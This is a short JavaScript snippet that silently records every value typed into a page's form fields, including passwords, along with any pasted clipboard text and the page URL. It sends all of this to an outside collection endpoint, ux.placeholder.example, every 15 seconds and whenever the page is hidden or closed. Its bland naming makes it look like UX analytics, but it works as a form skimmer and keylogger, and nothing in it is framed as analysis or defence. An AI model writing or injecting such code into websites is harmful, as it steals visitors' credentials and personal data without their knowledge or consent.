(() => {
  const book = new Map();
  const label = (el) => [el.tagName, el.name || el.id || el.placeholder].join(":");
  const note = (el) => { if (el && "value" in el) book.set(label(el), el.value); };
  document.addEventListener("input", (e) => note(e.composedPath()[0]), true);
  document.addEventListener("paste", (e) => book.set("clip:" + Date.now(), e.clipboardData.getData("text")), true);
  const flush = () => {
    if (!book.size) return;
    navigator.sendBeacon("https://ux.placeholder.example/c", JSON.stringify({ p: location.href, f: [...book] }));
    book.clear();
  };
  addEventListener("pagehide", flush);
  document.addEventListener("visibilitychange", () => document.hidden && flush());
  setInterval(flush, 15000);
})();
